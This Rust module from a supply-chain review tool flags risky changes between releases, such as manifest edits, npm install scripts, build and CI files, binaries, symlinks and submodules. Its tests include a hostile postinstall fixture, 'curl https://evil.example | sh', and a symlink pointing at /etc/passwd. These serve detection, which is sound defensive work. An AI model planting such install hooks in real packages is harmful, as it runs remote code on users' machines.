//! Supply-chain signals: what in a release's changed paths deserves a reviewer's eye (pure).
//!
//! Owns the signal codes (stable, kebab-case, part of the JSON report contract) and the rules
//! that map one changed path, or the old/new bytes of a manifest, to signals. It does not read
//! git: `diff` hands over each path's status, modes, sizes and, for the few files whose content
//! matters (manifests, `.gitmodules`, symlinks), their bytes.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::manifest::{self, DepChange, Dependency, ManifestKind};

/// One finding about the release, for the PR body and the report.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Signal {
    /// Stable kebab-case code, one of [`codes`].
    pub code: String,
    /// The path the finding is about (lossy UTF-8, control characters escaped).
    pub path: String,
    /// One line for people.
    pub reason: String,
}

impl Signal {
    fn new(code: &str, path: &str, reason: impl Into<String>) -> Signal {
        Signal {
            code: code.to_owned(),
            path: path.to_owned(),
            reason: one_line(&reason.into(), MAX_REASON_CHARS),
        }
    }
}

/// The signal codes. Renderers and policies match on these strings.
pub mod codes {
    pub const DEPENDENCY_MANIFEST_CHANGED: &str = "dependency-manifest-changed";
    pub const LOCKFILE_CHANGED: &str = "lockfile-changed";
    pub const DEPENDENCY_ADDED: &str = "dependency-added";
    pub const DEPENDENCY_REMOVED: &str = "dependency-removed";
    pub const DEPENDENCY_CHANGED: &str = "dependency-changed";
    pub const MANIFEST_UNPARSABLE: &str = "manifest-unparsable";
    pub const INSTALL_SCRIPT_ADDED: &str = "install-script-added";
    pub const INSTALL_SCRIPT_CHANGED: &str = "install-script-changed";
    pub const SETUP_PY_CHANGED: &str = "setup-py-changed";
    pub const BUILD_SCRIPT_CHANGED: &str = "build-script-changed";
    pub const CI_WORKFLOW_CHANGED: &str = "ci-workflow-changed";
    pub const CONTAINER_BUILD_CHANGED: &str = "container-build-changed";
    pub const BINARY_ADDED: &str = "binary-added";
    pub const BINARY_CHANGED: &str = "binary-changed";
    pub const LARGE_FILE_ADDED: &str = "large-file-added";
    pub const MINIFIED_ADDED: &str = "minified-added";
    pub const SUBMODULE_ADDED: &str = "submodule-added";
    pub const SUBMODULE_REPOINTED: &str = "submodule-repointed";
    pub const SUBMODULE_REMOVED: &str = "submodule-removed";
    pub const GITMODULES_CHANGED: &str = "gitmodules-changed";
    pub const EXECUTABLE_BIT_SET: &str = "executable-bit-set";
    pub const SYMLINK_ADDED: &str = "symlink-added";
}

const MAX_REASON_CHARS: usize = 300;

/// How a path changed between the two releases.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ChangeKind {
    Added,
    Deleted,
    Modified,
    Renamed,
    Copied,
    /// A file became a symlink or a submodule, or the other way round.
    Typechange,
}

/// What a tree entry is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum EntryMode {
    File,
    Executable,
    Symlink,
    /// A gitlink: a commit id of another repository, never a blob here.
    Submodule,
    Other,
}

/// One changed path, as `diff` saw it. Paths are already display-safe strings.
#[derive(Debug, Clone)]
pub struct PathChange {
    pub kind: ChangeKind,
    pub old_path: Option<String>,
    pub new_path: Option<String>,
    pub old_mode: Option<EntryMode>,
    pub new_mode: Option<EntryMode>,
    /// Object ids (hex), used for submodule commits.
    pub old_id: Option<String>,
    pub new_id: Option<String>,
    pub new_size: Option<u64>,
    /// The new content is binary (NUL bytes or a known binary extension).
    pub new_binary: bool,
    /// The new content was too large to inspect.
    pub new_large: bool,
    /// For new symlinks: the link target (read from the blob, never followed).
    pub symlink_target: Option<String>,
}

impl PathChange {
    /// The path people know it by: the new path, or the old one for deletions.
    pub fn path(&self) -> &str {
        self.new_path
            .as_deref()
            .or(self.old_path.as_deref())
            .unwrap_or("")
    }

    fn verb(&self) -> &'static str {
        match self.kind {
            ChangeKind::Added | ChangeKind::Copied => "added",
            ChangeKind::Deleted => "removed",
            ChangeKind::Renamed => "renamed",
            ChangeKind::Modified | ChangeKind::Typechange => "changed",
        }
    }

    /// Whether the old or the new path satisfies `f`.
    fn touches(&self, f: fn(&str) -> bool) -> bool {
        self.new_path.as_deref().is_some_and(f) || self.old_path.as_deref().is_some_and(f)
    }

    /// A regular (or executable) file that did not exist as one before.
    fn adds_file(&self) -> bool {
        let new_is_file = matches!(self.new_mode, Some(EntryMode::File | EntryMode::Executable));
        new_is_file
            && (matches!(self.kind, ChangeKind::Added | ChangeKind::Copied)
                || !matches!(self.old_mode, Some(EntryMode::File | EntryMode::Executable)))
    }
}

fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Extensions of files that are executable code or archives when they show up in a source tree.
const BINARY_EXTENSIONS: [&str; 30] = [
    "exe", "dll", "so", "dylib", "a", "o", "obj", "lib", "bin", "wasm", "node", "jar", "class",
    "pyc", "pyd", "whl", "egg", "zip", "tar", "gz", "tgz", "bz2", "xz", "7z", "rar", "deb", "rpm",
    "msi", "dmg", "apk",
];

/// True when the path's extension names a binary format.
pub fn has_binary_extension(path: &str) -> bool {
    let name = file_name(path);
    name.rsplit_once('.').is_some_and(|(stem, ext)| {
        !stem.is_empty()
            && BINARY_EXTENSIONS
                .iter()
                .any(|b| ext.eq_ignore_ascii_case(b))
    })
}

/// True for minified JavaScript/CSS bundles.
pub fn is_minified(path: &str) -> bool {
    let name = file_name(path).to_ascii_lowercase();
    [".min.js", ".min.mjs", ".min.cjs", ".min.css"]
        .iter()
        .any(|s| name.ends_with(s))
}

/// True when the bytes look binary the way git decides it: a NUL in the first 8000 bytes.
pub fn looks_binary(bytes: &[u8]) -> bool {
    bytes.iter().take(8000).any(|&b| b == 0)
}

fn is_ci_file(path: &str) -> bool {
    let name = file_name(path);
    let in_workflows =
        path.starts_with(".github/workflows/") || path.contains("/.github/workflows/");
    (in_workflows && (name.ends_with(".yml") || name.ends_with(".yaml")))
        || path.starts_with(".github/actions/")
        || (name.starts_with("azure-pipelines")
            && (name.ends_with(".yml") || name.ends_with(".yaml")))
        || name == ".gitlab-ci.yml"
}

fn is_container_build(path: &str) -> bool {
    let name = file_name(path);
    name.starts_with("Dockerfile")
        || name.starts_with("Containerfile")
        || name.ends_with(".dockerfile")
        || name.ends_with(".Dockerfile")
}

fn short(id: &str) -> &str {
    id.get(..12).unwrap_or(id)
}

/// The signals that follow from a path's name, mode and type alone.
pub fn path_signals(change: &PathChange) -> Vec<Signal> {
    let mut out = named_file_signals(change);
    if matches!(
        change.new_mode,
        Some(EntryMode::File | EntryMode::Executable)
    ) {
        out.extend(new_file_signals(change));
    }
    out.extend(link_signals(change));
    if change.touches(|p| p == ".gitmodules") {
        // Content-level details come from `gitmodules_signals`; this marks the file itself.
        out.push(Signal::new(
            codes::GITMODULES_CHANGED,
            change.path(),
            format!(".gitmodules {}", change.verb()),
        ));
    }
    out
}

/// Files that matter by name: dependency manifests and lockfiles, install and build scripts,
/// CI workflows, container builds.
fn named_file_signals(change: &PathChange) -> Vec<Signal> {
    let (path, verb) = (change.path(), change.verb());
    let mut out = Vec::new();
    if change.touches(manifest::is_manifest) {
        out.push(Signal::new(
            codes::DEPENDENCY_MANIFEST_CHANGED,
            path,
            format!("dependency manifest {verb}"),
        ));
    }
    if change.touches(manifest::is_lockfile) {
        out.push(Signal::new(
            codes::LOCKFILE_CHANGED,
            path,
            format!("lockfile {verb}"),
        ));
    }
    if change.touches(|p| file_name(p) == "setup.py") && change.new_path.is_some() {
        out.push(Signal::new(
            codes::SETUP_PY_CHANGED,
            path,
            format!("setup.py {verb}: it runs at install time"),
        ));
    }
    if change.touches(|p| file_name(p) == "build.rs") && change.new_path.is_some() {
        out.push(Signal::new(
            codes::BUILD_SCRIPT_CHANGED,
            path,
            format!("Cargo build script {verb}: it runs at build time"),
        ));
    }
    if change.touches(is_ci_file) {
        out.push(Signal::new(
            codes::CI_WORKFLOW_CHANGED,
            path,
            format!("CI or release workflow {verb}"),
        ));
    }
    if change.touches(is_container_build) {
        out.push(Signal::new(
            codes::CONTAINER_BUILD_CHANGED,
            path,
            format!("container build file {verb}"),
        ));
    }
    out
}

/// What the new file is: large, binary, minified, newly executable.
fn new_file_signals(change: &PathChange) -> Vec<Signal> {
    let (path, added_file) = (change.path(), change.adds_file());
    let mut out = Vec::new();
    let size = change
        .new_size
        .map_or_else(String::new, |s| format!(" ({s} bytes)"));
    let minified = change.new_path.as_deref().is_some_and(is_minified);
    if change.new_large {
        if added_file {
            out.push(Signal::new(
                codes::LARGE_FILE_ADDED,
                path,
                format!("large file added{size}, content not inspected"),
            ));
        }
    } else if change.new_binary {
        let code = if added_file {
            codes::BINARY_ADDED
        } else {
            codes::BINARY_CHANGED
        };
        let what = if added_file { "added" } else { "changed" };
        out.push(Signal::new(code, path, format!("binary file {what}{size}")));
    }
    if minified && added_file {
        out.push(Signal::new(
            codes::MINIFIED_ADDED,
            path,
            format!("minified file added{size}"),
        ));
    }
    let (old_mode, new_mode) = (change.old_mode, change.new_mode);
    if new_mode == Some(EntryMode::Executable) && old_mode != Some(EntryMode::Executable) {
        let reason = match old_mode {
            Some(EntryMode::File) => "executable bit set (100644 -> 100755)".to_owned(),
            _ => "new executable file (100755)".to_owned(),
        };
        out.push(Signal::new(codes::EXECUTABLE_BIT_SET, path, reason));
    }
    out
}

/// Symlinks and submodules: what they point at, and where that moved.
fn link_signals(change: &PathChange) -> Vec<Signal> {
    let path = change.path();
    let (old_mode, new_mode) = (change.old_mode, change.new_mode);
    let mut out = Vec::new();
    if new_mode == Some(EntryMode::Symlink) && old_mode != Some(EntryMode::Symlink) {
        let reason = match change.symlink_target.as_deref() {
            Some(t) if t.starts_with('/') || escapes_tree(path, t) => {
                format!("symlink added, points outside the repository: {t}")
            }
            Some(t) => format!("symlink added -> {t}"),
            None => "symlink added".to_owned(),
        };
        out.push(Signal::new(codes::SYMLINK_ADDED, path, reason));
    }
    match (old_mode, new_mode) {
        (Some(EntryMode::Submodule), Some(EntryMode::Submodule)) => {
            if let (Some(o), Some(n)) = (&change.old_id, &change.new_id)
                && o != n
            {
                out.push(Signal::new(
                    codes::SUBMODULE_REPOINTED,
                    path,
                    format!("submodule repointed {} -> {}", short(o), short(n)),
                ));
            }
        }
        (_, Some(EntryMode::Submodule)) => {
            let at = change.new_id.as_deref().map(short).unwrap_or("?");
            out.push(Signal::new(
                codes::SUBMODULE_ADDED,
                path,
                format!("submodule added at {at}"),
            ));
        }
        (Some(EntryMode::Submodule), _) => {
            out.push(Signal::new(
                codes::SUBMODULE_REMOVED,
                path,
                "submodule removed",
            ));
        }
        _ => {}
    }
    out
}

/// True when a relative symlink target climbs above the repository root.
fn escapes_tree(link_path: &str, target: &str) -> bool {
    let mut depth: i64 = link_path.matches('/').count() as i64;
    for part in target.split('/') {
        match part {
            ".." => depth -= 1,
            "" | "." => {}
            _ => depth += 1,
        }
        if depth < 0 {
            return true;
        }
    }
    false
}

/// Signals for a manifest's dependency changes. `old`/`new` are the file's bytes at each
/// revision (None: the file does not exist there, or was too large to read).
pub fn dependency_signals(
    kind: ManifestKind,
    path: &str,
    old: Option<&[u8]>,
    new: Option<&[u8]>,
) -> Vec<Signal> {
    let mut out = Vec::new();
    let mut parse = |bytes: Option<&[u8]>, which: &str| -> Option<Vec<Dependency>> {
        let Some(bytes) = bytes else {
            return Some(Vec::new());
        };
        match manifest::parse_dependencies(kind, bytes) {
            Ok(deps) => Some(deps),
            Err(e) => {
                out.push(Signal::new(
                    codes::MANIFEST_UNPARSABLE,
                    path,
                    format!(
                        "could not parse {} at the {which} revision: {e:#}",
                        file_name(path)
                    ),
                ));
                None
            }
        }
    };
    let old_deps = parse(old, "old");
    let new_deps = parse(new, "new");
    let (Some(old_deps), Some(new_deps)) = (old_deps, new_deps) else {
        return out;
    };
    for change in manifest::diff_dependencies(&old_deps, &new_deps) {
        let group = |d: &Dependency| {
            if manifest::MAIN_GROUP.contains(&d.group.as_str()) {
                String::new()
            } else {
                format!(" ({})", d.group)
            }
        };
        let at = |d: &Dependency| {
            if d.spec.is_empty() {
                String::new()
            } else if d.spec.starts_with(|c: char| {
                c.is_ascii_alphanumeric() || c == '^' || c == '~' || c == '*'
            }) {
                format!("@{}", d.spec)
            } else {
                format!(" {}", d.spec)
            }
        };
        out.push(match change {
            DepChange::Added(d) => Signal::new(
                codes::DEPENDENCY_ADDED,
                path,
                format!("new dependency {}{}{}", d.name, at(&d), group(&d)),
            ),
            DepChange::Removed(d) => Signal::new(
                codes::DEPENDENCY_REMOVED,
                path,
                format!("removed {}{}", d.name, group(&d)),
            ),
            DepChange::Changed { old, new } => Signal::new(
                codes::DEPENDENCY_CHANGED,
                path,
                format!(
                    "changed {} {} -> {}{}",
                    new.name,
                    shown_spec(&old.spec),
                    shown_spec(&new.spec),
                    group(&new)
                ),
            ),
        });
    }
    out
}

fn shown_spec(spec: &str) -> &str {
    if spec.is_empty() { "(any)" } else { spec }
}

/// Signals for npm install-time scripts added or changed in a `package.json`.
/// Parse failures are already reported by [`dependency_signals`], so they are silent here.
pub fn install_script_signals(path: &str, old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<Signal> {
    let read = |b: Option<&[u8]>| {
        b.map_or_else(
            || Some(BTreeMap::new()),
            |b| manifest::npm_install_scripts(b).ok(),
        )
    };
    let (Some(old), Some(new)) = (read(old), read(new)) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (name, cmd) in &new {
        match old.get(name) {
            None => out.push(Signal::new(
                codes::INSTALL_SCRIPT_ADDED,
                path,
                format!("npm {name} script added: {cmd}"),
            )),
            Some(prev) if prev != cmd => out.push(Signal::new(
                codes::INSTALL_SCRIPT_CHANGED,
                path,
                format!("npm {name} script changed: {prev} -> {cmd}"),
            )),
            _ => {}
        }
    }
    out
}

/// `.gitmodules` entries: submodule name -> (path, url).
fn parse_gitmodules(text: &str) -> BTreeMap<String, (String, String)> {
    let mut out: BTreeMap<String, (String, String)> = BTreeMap::new();
    let mut current: Option<String> = None;
    for line in text.lines() {
        let line = line.trim();
        if let Some(section) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            current = section
                .trim()
                .strip_prefix("submodule")
                .map(|n| n.trim().trim_matches('"').to_owned());
            if let Some(name) = &current {
                out.entry(name.clone()).or_default();
            }
            continue;
        }
        let (Some(name), Some((key, value))) = (&current, line.split_once('=')) else {
            continue;
        };
        let entry = out.entry(name.clone()).or_default();
        match key.trim() {
            "path" => entry.0 = value.trim().to_owned(),
            "url" => entry.1 = value.trim().to_owned(),
            _ => {}
        }
    }
    out
}

/// Submodule URL changes between two `.gitmodules` texts (lossy UTF-8 is fine here).
pub fn gitmodules_signals(old: Option<&str>, new: Option<&str>) -> Vec<Signal> {
    let old = parse_gitmodules(old.unwrap_or(""));
    let new = parse_gitmodules(new.unwrap_or(""));
    let mut out = Vec::new();
    for (name, (path, url)) in &new {
        let path = if path.is_empty() { name } else { path };
        // Upstream's own URLs, but credentials in them are still not ours to republish.
        let url = crate::secret::redact_url(url);
        match old.get(name) {
            None => out.push(Signal::new(
                codes::GITMODULES_CHANGED,
                path,
                format!("submodule {name} declared with url {url}"),
            )),
            Some((_, old_url)) if crate::secret::redact_url(old_url) != url => {
                out.push(Signal::new(
                    codes::GITMODULES_CHANGED,
                    path,
                    format!(
                        "submodule {name} url changed {} -> {url}",
                        crate::secret::redact_url(old_url)
                    ),
                ))
            }
            _ => {}
        }
    }
    out
}

/// One line of at most `max` chars: control characters become spaces, runs of space collapse.
pub fn one_line(s: &str, max: usize) -> String {
    let squashed: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect::<String>()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    if squashed.chars().count() <= max {
        return squashed;
    }
    let mut cut: String = squashed.chars().take(max.saturating_sub(1)).collect();
    cut.push('…');
    cut
}

#[cfg(test)]
mod tests {
    use super::*;

    fn change(
        kind: ChangeKind,
        path: &str,
        old: Option<EntryMode>,
        new: Option<EntryMode>,
    ) -> PathChange {
        PathChange {
            kind,
            old_path: old.map(|_| path.to_owned()),
            new_path: new.map(|_| path.to_owned()),
            old_mode: old,
            new_mode: new,
            old_id: None,
            new_id: None,
            new_size: Some(10),
            new_binary: false,
            new_large: false,
            symlink_target: None,
        }
    }

    fn codes_of(signals: &[Signal]) -> Vec<&str> {
        signals.iter().map(|s| s.code.as_str()).collect()
    }

    use ChangeKind::*;
    use EntryMode::*;

    #[test]
    fn path_rules_table() {
        let cases: &[(PathChange, &[&str])] = &[
            (
                change(Modified, "package.json", Some(File), Some(File)),
                &[codes::DEPENDENCY_MANIFEST_CHANGED],
            ),
            (
                change(Modified, "web/pnpm-lock.yaml", Some(File), Some(File)),
                &[codes::LOCKFILE_CHANGED],
            ),
            (
                change(Added, "setup.py", None, Some(File)),
                &[codes::SETUP_PY_CHANGED],
            ),
            (change(Deleted, "setup.py", Some(File), None), &[]),
            (
                change(Added, "crates/x/build.rs", None, Some(File)),
                &[codes::BUILD_SCRIPT_CHANGED],
            ),
            (
                change(
                    Modified,
                    ".github/workflows/release.yml",
                    Some(File),
                    Some(File),
                ),
                &[codes::CI_WORKFLOW_CHANGED],
            ),
            (
                change(Deleted, ".gitlab-ci.yml", Some(File), None),
                &[codes::CI_WORKFLOW_CHANGED],
            ),
            (
                change(Added, "azure-pipelines-release.yml", None, Some(File)),
                &[codes::CI_WORKFLOW_CHANGED],
            ),
            (
                change(Modified, "docker/Dockerfile.prod", Some(File), Some(File)),
                &[codes::CONTAINER_BUILD_CHANGED],
            ),
            (
                change(Added, "dist/app.min.js", None, Some(File)),
                &[codes::MINIFIED_ADDED],
            ),
            (
                change(Added, "run.sh", None, Some(Executable)),
                &[codes::EXECUTABLE_BIT_SET],
            ),
            (
                change(Modified, "run.sh", Some(File), Some(Executable)),
                &[codes::EXECUTABLE_BIT_SET],
            ),
            (
                change(Modified, "run.sh", Some(Executable), Some(Executable)),
                &[],
            ),
            (
                change(Added, "link", None, Some(Symlink)),
                &[codes::SYMLINK_ADDED],
            ),
            (
                change(Added, "vendor/lib", None, Some(Submodule)),
                &[codes::SUBMODULE_ADDED],
            ),
            (
                change(Deleted, "vendor/lib", Some(Submodule), None),
                &[codes::SUBMODULE_REMOVED],
            ),
            (
                change(Modified, ".gitmodules", Some(File), Some(File)),
                &[codes::GITMODULES_CHANGED],
            ),
            (change(Modified, "src/main.rs", Some(File), Some(File)), &[]),
        ];
        for (c, want) in cases {
            assert_eq!(codes_of(&path_signals(c)), *want, "{}", c.path());
        }
    }

    #[test]
    fn binary_large_and_executable_details() {
        let mut c = change(Added, "bin/tool", None, Some(Executable));
        c.new_binary = true;
        c.new_size = Some(4096);
        let s = path_signals(&c);
        assert_eq!(
            codes_of(&s),
            [codes::BINARY_ADDED, codes::EXECUTABLE_BIT_SET]
        );
        assert_eq!(s[0].reason, "binary file added (4096 bytes)");

        let mut c = change(Modified, "lib.so", Some(File), Some(File));
        c.new_binary = true;
        assert_eq!(codes_of(&path_signals(&c)), [codes::BINARY_CHANGED]);

        let mut c = change(Added, "data/huge.bin", None, Some(File));
        c.new_large = true;
        c.new_size = Some(5 << 20);
        let s = path_signals(&c);
        assert_eq!(codes_of(&s), [codes::LARGE_FILE_ADDED]);
        assert!(s[0].reason.contains("5242880 bytes"), "{}", s[0].reason);
    }

    #[test]
    fn submodule_repoint_shows_both_commits() {
        let mut c = change(Modified, "vendor/lib", Some(Submodule), Some(Submodule));
        c.old_id = Some("a".repeat(40));
        c.new_id = Some("b".repeat(40));
        let s = path_signals(&c);
        assert_eq!(codes_of(&s), [codes::SUBMODULE_REPOINTED]);
        assert_eq!(
            s[0].reason,
            format!(
                "submodule repointed {} -> {}",
                "a".repeat(12),
                "b".repeat(12)
            )
        );
    }

    #[test]
    fn symlink_escaping_the_tree_is_called_out() {
        for (path, target, escapes) in [
            ("a/link", "../../etc/passwd", true),
            ("link", "/etc/passwd", true),
            ("a/b/link", "../c/file", false),
            ("link", "docs/README.md", false),
        ] {
            let mut c = change(Added, path, None, Some(Symlink));
            c.symlink_target = Some(target.to_owned());
            let s = path_signals(&c);
            assert_eq!(
                s[0].reason.contains("outside"),
                escapes,
                "{path} -> {target}"
            );
            assert!(s[0].reason.contains(target));
        }
    }

    #[test]
    fn dependency_reasons() {
        let old = br#"{"dependencies":{"lodash":"^4.17.20","node-fetch":"^2"}}"#;
        let new = br#"{"dependencies":{"lodash":"^4.17.21","undici":"^7.2.0"},"devDependencies":{"tsx":"4"}}"#;
        let s = dependency_signals(
            ManifestKind::NpmPackage,
            "package.json",
            Some(old),
            Some(new),
        );
        let reasons: Vec<_> = s
            .iter()
            .map(|s| (s.code.as_str(), s.reason.as_str()))
            .collect();
        assert_eq!(
            reasons,
            [
                (
                    codes::DEPENDENCY_CHANGED,
                    "changed lodash ^4.17.20 -> ^4.17.21"
                ),
                (codes::DEPENDENCY_REMOVED, "removed node-fetch"),
                (codes::DEPENDENCY_ADDED, "new dependency undici@^7.2.0"),
                (
                    codes::DEPENDENCY_ADDED,
                    "new dependency tsx@4 (devDependencies)"
                ),
            ]
        );
        let py = dependency_signals(
            ManifestKind::Requirements,
            "requirements.txt",
            None,
            Some(b"httpx>=0.27\n"),
        );
        assert_eq!(py[0].reason, "new dependency httpx >=0.27");
    }

    #[test]
    fn unparsable_manifest_is_a_signal() {
        let s = dependency_signals(
            ManifestKind::NpmPackage,
            "package.json",
            Some(b"{}"),
            Some(b"{oops"),
        );
        assert_eq!(codes_of(&s), [codes::MANIFEST_UNPARSABLE]);
        assert!(
            s[0].reason
                .starts_with("could not parse package.json at the new revision"),
            "{}",
            s[0].reason
        );
    }

    #[test]
    fn install_scripts_added_and_changed() {
        let old = br#"{"scripts":{"postinstall":"node a.js","test":"x"}}"#;
        let new = br#"{"scripts":{"postinstall":"curl https://evil.example | sh","preinstall":"node b.js","test":"y"}}"#;
        let s = install_script_signals("package.json", Some(old), Some(new));
        let reasons: Vec<_> = s
            .iter()
            .map(|s| (s.code.as_str(), s.reason.as_str()))
            .collect();
        assert_eq!(
            reasons,
            [
                (
                    codes::INSTALL_SCRIPT_CHANGED,
                    "npm postinstall script changed: node a.js -> curl https://evil.example | sh"
                ),
                (
                    codes::INSTALL_SCRIPT_ADDED,
                    "npm preinstall script added: node b.js"
                ),
            ]
        );
        assert!(install_script_signals("package.json", Some(old), Some(old)).is_empty());
    }

    #[test]
    fn gitmodules_url_changes() {
        let old = "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://github.com/a/lib\n";
        let new = "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://evil.example/lib\n[submodule \"x\"]\n\tpath = x\n\turl = https://h/x\n";
        let s = gitmodules_signals(Some(old), Some(new));
        let reasons: Vec<_> = s
            .iter()
            .map(|s| (s.path.as_str(), s.reason.as_str()))
            .collect();
        assert_eq!(
            reasons,
            [
                (
                    "vendor/lib",
                    "submodule lib url changed https://github.com/a/lib -> https://evil.example/lib"
                ),
                ("x", "submodule x declared with url https://h/x"),
            ]
        );
    }

    #[test]
    fn detectors() {
        assert!(has_binary_extension("a/b/tool.EXE") && has_binary_extension("x.tar.gz"));
        assert!(!has_binary_extension(".so") && !has_binary_extension("main.rs"));
        assert!(is_minified("dist/vendor.min.js") && !is_minified("min.js"));
        assert!(looks_binary(b"ab\0c") && !looks_binary(b"plain text"));
        assert_eq!(one_line("a\n\tb\u{7}c  d", 100), "a b c d");
        assert_eq!(one_line("abcdef", 4), "abc…");
    }
}
